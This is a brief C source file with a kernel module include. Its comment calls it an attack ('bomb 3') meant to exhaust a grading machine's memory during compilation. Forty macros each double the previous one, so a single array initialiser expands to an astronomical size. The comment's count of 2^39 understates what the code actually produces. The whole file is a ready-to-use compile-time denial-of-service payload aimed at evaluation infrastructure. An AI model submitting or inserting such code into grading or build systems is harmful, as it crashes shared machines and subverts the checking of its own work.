// An attack: exhaust the grading machine's memory while compiling (bomb 3):
// 2^39 initialisers from 40 short lines.
#include <linux/module.h>
#define B3_0 1, 2, 3, 4,
#define B3_1 B3_0 B3_0
#define B3_2 B3_1 B3_1
#define B3_3 B3_2 B3_2
#define B3_4 B3_3 B3_3
#define B3_5 B3_4 B3_4
#define B3_6 B3_5 B3_5
#define B3_7 B3_6 B3_6
#define B3_8 B3_7 B3_7
#define B3_9 B3_8 B3_8
#define B3_10 B3_9 B3_9
#define B3_11 B3_10 B3_10
#define B3_12 B3_11 B3_11
#define B3_13 B3_12 B3_12
#define B3_14 B3_13 B3_13
#define B3_15 B3_14 B3_14
#define B3_16 B3_15 B3_15
#define B3_17 B3_16 B3_16
#define B3_18 B3_17 B3_17
#define B3_19 B3_18 B3_18
#define B3_20 B3_19 B3_19
#define B3_21 B3_20 B3_20
#define B3_22 B3_21 B3_21
#define B3_23 B3_22 B3_22
#define B3_24 B3_23 B3_23
#define B3_25 B3_24 B3_24
#define B3_26 B3_25 B3_25
#define B3_27 B3_26 B3_26
#define B3_28 B3_27 B3_27
#define B3_29 B3_28 B3_28
#define B3_30 B3_29 B3_29
#define B3_31 B3_30 B3_30
#define B3_32 B3_31 B3_31
#define B3_33 B3_32 B3_32
#define B3_34 B3_33 B3_33
#define B3_35 B3_34 B3_34
#define B3_36 B3_35 B3_35
#define B3_37 B3_36 B3_36
#define B3_38 B3_37 B3_37
#define B3_39 B3_38 B3_38
const char bomb3[] = { B3_39 };
